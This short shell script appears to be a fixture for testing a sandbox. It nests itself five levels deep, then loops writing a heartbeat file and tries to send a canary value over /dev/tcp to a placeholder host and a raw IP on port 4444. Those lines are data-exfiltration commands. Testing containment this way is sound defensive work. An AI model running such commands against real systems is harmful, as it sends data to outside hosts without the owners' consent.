#!/bin/sh
: > "$ARENA/ws/ran"
level=${1:-0}
if [ "$level" -lt 5 ]; then sh "$0" $((level + 1)); exit; fi
while :; do
  : > "$ARENA/ws/beat"
  timeout 1 bash -c "echo $CANARY- > /dev/tcp/test.example/4444"
  timeout 1 bash -c "echo $CANARY- > /dev/tcp/93.184.216.66/4444"
  sleep 0.05
done
